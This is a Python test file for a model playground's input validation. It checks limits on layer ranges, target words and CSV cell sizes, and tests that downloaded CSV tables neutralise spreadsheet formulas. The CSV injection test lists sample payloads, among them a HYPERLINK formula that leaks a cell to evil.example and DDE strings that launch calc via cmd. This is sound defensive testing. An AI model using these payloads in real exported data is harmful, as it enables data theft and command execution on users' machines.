"""Issue 16: every limit is checked before work is done, and every value gets one clear sentence."""

from __future__ import annotations

import tracemalloc

import pytest

from playground.tasks import attention_ops as ops
from playground.tasks.validation import InputError


@pytest.mark.parametrize(
    "spec", ["1-20000000", "1-1000000000", "1-" + "9" * 13, "1-" + "9" * 30, "1-" + "9" * 5000, "9" * 5000]
)
def test_huge_layer_ranges_are_refused_before_they_are_expanded(spec):
    tracemalloc.start()
    try:
        with pytest.raises(InputError, match=r"There is no layer .*: this model has 4 layers \(1 to 4\)"):
            ops.parse_selection(spec, 4, "layer")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2**20, peak  # expanding "1-20000000" into a list took 765 MB


def test_a_huge_number_is_shortened_in_the_sentence():
    with pytest.raises(InputError) as caught:
        ops.parse_selection("1-" + "9" * 5000, 4, "layer")
    assert len(str(caught.value)) < 200


def test_ranges_inside_the_model_still_work():
    assert ops.parse_selection("1-4", 4, "layer") == [0, 1, 2, 3]
    assert ops.parse_selection("2, 4-4", 4, "head") == [1, 3]
    with pytest.raises(InputError, match="no layer 5"):
        ops.parse_selection("2-5", 4, "layer")


def test_target_words_longer_than_the_box_are_refused(tiny_model_dirs):
    from playground.models import ModelManager
    from playground.tasks import fill_mask

    loaded = ModelManager(tiny_model_dirs, "cpu").get("fill-mask")
    for targets in ["mat," * 250_012 + "a", "a" * 5001, ["mat"] * 2000, ["x" * 6000]]:
        with pytest.raises(InputError, match="characters long together; the limit here is 5,000"):
            fill_mask.fill_mask(
                loaded, "The cat sat on the [MASK].", top_k=5, targets=targets, max_chars=5000
            )
    with pytest.raises(InputError, match="must be text"):
        fill_mask.fill_mask(loaded, "The cat sat on the [MASK].", top_k=5, targets={"a": 1}, max_chars=5000)
    shown = fill_mask.fill_mask(
        loaded, "The cat sat on the [MASK].", top_k=5, targets="mat, dog", max_chars=5000
    )
    assert shown.targets == ["mat", "dog"]


def test_the_downloaded_table_shows_formulas_as_text(tiny_model_dirs):
    """CSV injection (OWASP): cells that start with = + - @ tab or CR begin with a quote in the download."""
    import csv
    import io

    from playground import api
    from playground.models import ModelManager
    from playground.tasks import sentiment

    texts = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "A fine film = good.",
    ]
    loaded = ModelManager(tiny_model_dirs, "cpu").get("sentiment")
    result = sentiment.classify_many(loaded, texts, 5000, 4)
    rows = list(csv.reader(io.StringIO(api.batch_csv(result))))
    assert rows[0] == ["text", "label", "score"]
    cells = [row[0] for row in rows[1:]]
    assert cells[:-1] == ["'" + text for text in texts[:-1]]
    assert cells[-1] == "A fine film = good."  # a formula sign inside a text is harmless: kept as it is
    assert all(not row[1].startswith(api.FORMULA_STARTS) for row in rows[1:])


@pytest.mark.parametrize("where", ["header", "cell"])
def test_a_csv_cell_of_200000_characters_is_one_clear_sentence(tmp_path, where):
    from playground.tasks import sentiment

    long = "x" * 200_000
    path = tmp_path / "long.csv"
    if where == "header":
        path.write_text(f"text,{long}\nfine,ok\n", encoding="utf-8")
    else:
        path.write_text(f"text\nfine\n{long}\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"has a cell longer than 131,072 characters"):
        sentiment.texts_from_csv(path, "text", 100)
    if where == "header":
        with pytest.raises(InputError, match=r"Row 1 of the CSV file has a cell longer"):
            sentiment.csv_columns(path)
